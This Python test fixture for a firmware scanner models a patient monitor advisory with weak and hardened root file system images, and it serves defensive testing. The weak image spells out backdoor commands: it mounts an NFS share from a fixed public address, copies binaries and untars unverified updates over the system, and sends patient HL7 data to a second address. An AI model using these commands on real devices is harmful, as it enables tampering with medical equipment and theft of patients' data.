"""Patient monitor that mounts a folder of a public address and sends patients' data there."""

from __future__ import annotations

from firmware_checks.twin import Expected, Twin, expected_at
from firmware_checks.twin_containers.file_systems import cramfs
from firmware_checks.twin_containers.programs import hosted_program, protected_program

_WEAK = {
    "opt/bin/monitor": hosted_program(
        b"mount -o nolock -t nfs 202.114.4.119:/pm /mnt", b"cp /mnt/monitor /opt/bin/", b"202.114.4.120", b"ORU^R01"
    ),
    "opt/bin/update": hosted_program(b"mount -t nfs 202.114.4.119:/update /mnt", b"tar xf /mnt/upd.tar -C /"),
    "etc/issue": b"Monitor 2.6.27\n",
}
_HARDENED = {
    "opt/bin/monitor": protected_program(
        b"mount -o ro,bind /data/export /mnt", b"192.0.2.119", b"198.51.100.120", b"version 202.114.4", b"ORU^R01"
    ),
    "opt/bin/update": protected_program(b"gpgv --keyring /etc/keys/update.gpg /tmp/upd.tar.sig /tmp/upd.tar"),
    "etc/monitor.conf": b"# example only: mount -t nfs 202.114.4.119:/pm /mnt\nhl7_server = 10.20.0.9\n",
}

TWIN = Twin(
    name="contec-2025",
    device="Patient monitor",
    advisory="ICSMA-25-030-01",
    cves=("CVE-2025-0626", "CVE-2025-1204", "CVE-2025-0683", "CVE-2024-12248"),
    container="cramfs root file system",
    image="smart3250-wlan.cramfs",
    mechanism=(
        "Two programs mount a folder of a fixed public address over NFS and copy what they find there over the "
        "device's own programs, without verifying anything; names and values of patients go to a second address."
    ),
    for_patient=(
        "Whoever controls that address, or sits on the way, can change what the monitor shows and does, and reads who "
        "lies in which bed."
    ),
    difference="It mounts nothing from elsewhere, talks to servers of the hospital only, and verifies signed updates.",
    weak=lambda: cramfs(_WEAK),
    hardened=lambda: cramfs(_HARDENED),
    expected=(
        expected_at("hard-coded-address", "opt/bin/monitor", _WEAK["opt/bin/monitor"], b"mount -o nolock"),
        expected_at("update-not-verified", "opt/bin/update", _WEAK["opt/bin/update"], b"tar xf"),
        Expected(check="cleartext-transfer", path="opt/bin/monitor"),
    ),
)
